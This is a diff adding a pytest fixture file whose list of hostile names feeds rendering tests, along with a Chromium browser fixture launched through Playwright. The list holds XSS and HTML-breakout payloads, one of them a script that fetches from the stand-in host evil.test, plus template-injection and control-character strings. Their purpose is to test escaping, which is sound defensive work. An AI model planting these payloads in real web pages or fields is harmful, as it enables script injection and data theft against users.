@@ -1,0 +1,49 @@
+"""What tests of several rooms use: hostile names, and a Chromium for what only a browser can tell."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from collections.abc import Iterator
+
+import pytest
+
+HOSTILE = [
+    "<script>fetch('https://evil.test/?a')</script>",
+    '<img src="https://evil.test/x.png" onerror="alert(1)">',
+    '"><svg onload="alert(2)">',
+    "</pre></td></table><h1>owned</h1>",
+    "[click](javascript:alert(3)) ![x](https://evil.test/y.png)",
+    "```\n# broke out\n@octocat fixes #12 | closes octo/repo#7 GH-3 https://github.com/a/b/issues/1",
+    "<style>body{display:none}</style><iframe src='https://evil.test'></iframe>",
+    "{{ 7 * 7 }} {% raw %} **{n}** `tick` $\\alpha$ \x1b[31mred\x00\u202egnp",
+]
+
+
+@pytest.fixture(scope="session")
+def hostile() -> list[str]:
+    """Return names as a stranger would write them into a branch, a job or a log."""
+    return HOSTILE
+
+
+@pytest.fixture(scope="session")
+def chromium() -> str:
+    """Return the path of a Chromium; without one the test is skipped, but not in CI."""
+    names = ("chromium", "chromium-browser", "google-chrome")
+    found = os.environ.get("KOTACI_CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
+    if found:
+        return found
+    if os.environ.get("CI"):
+        pytest.fail("no Chromium, and CI must have one: install chromium or set KOTACI_CHROMIUM")
+    pytest.skip("no Chromium: install one or set KOTACI_CHROMIUM")
+
+
+@pytest.fixture(scope="session")
+def browser(chromium: str) -> Iterator[object]:
+    """Return a started browser, one for all tests."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        started = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
+        yield started
+        started.close()
